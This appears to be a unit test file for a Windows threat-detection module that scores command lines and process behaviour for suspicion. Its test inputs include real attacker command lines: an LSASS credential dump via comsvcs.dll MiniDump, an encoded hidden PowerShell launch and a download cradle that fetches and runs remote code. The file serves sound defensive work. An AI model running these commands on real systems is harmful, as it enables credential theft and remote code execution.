import { describe, expect, it } from 'vitest';
import { accessSuspicion, processSuspicion, textSuspicion } from './suspicion.ts';

describe('suspicion', () => {
  it('scores credential dumping, encoded PowerShell and download cradles', () => {
    expect(
      textSuspicion('rundll32.exe comsvcs.dll, MiniDump 628 C:\\t\\l.dmp full').reasons,
    ).toEqual(['credential dumping']);
    expect(
      textSuspicion('powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'),
    ).toEqual({
      score: 6,
      reasons: ['encoded PowerShell', 'hidden window', 'policy bypass'],
    });
    expect(
      textSuspicion("IEX (New-Object Net.WebClient).DownloadString('http://x')").reasons,
    ).toEqual(['download cradle', 'in-memory execution']);
  });

  it('leaves ordinary command lines alone', () => {
    expect(textSuspicion('C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule')).toEqual({
      score: 0,
      reasons: [],
    });
  });

  it('adds the parent and the folder a process runs from', () => {
    expect(
      processSuspicion({
        name: 'cmd.exe',
        imagePath: 'C:\\Windows\\System32\\cmd.exe',
        cmdline: 'cmd.exe /c echo hi',
        parentName: 'WINWORD.EXE',
        parentImagePath: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      }),
    ).toEqual({ score: 4, reasons: ['WINWORD.EXE started cmd.exe'] });
    expect(
      processSuspicion({
        name: 'update.exe',
        imagePath: 'C:\\Users\\bob\\Downloads\\update.exe',
        cmdline: 'update.exe',
      }).reasons,
    ).toEqual(['runs from a user-writable folder']);
  });

  it('flags reading LSASS memory from anything but system services', () => {
    expect(
      accessSuspicion({
        sourceName: 'powershell.exe',
        targetName: 'lsass.exe',
        accessRights: '0x1010',
      }).score,
    ).toBe(4);
    expect(
      accessSuspicion({
        sourceName: 'svchost.exe',
        targetName: 'lsass.exe',
        accessRights: '0x1010',
      }).score,
    ).toBe(0);
    expect(
      accessSuspicion({
        sourceName: 'powershell.exe',
        targetName: 'lsass.exe',
        accessRights: '0x1000',
      }).score,
    ).toBe(0);
  });
});
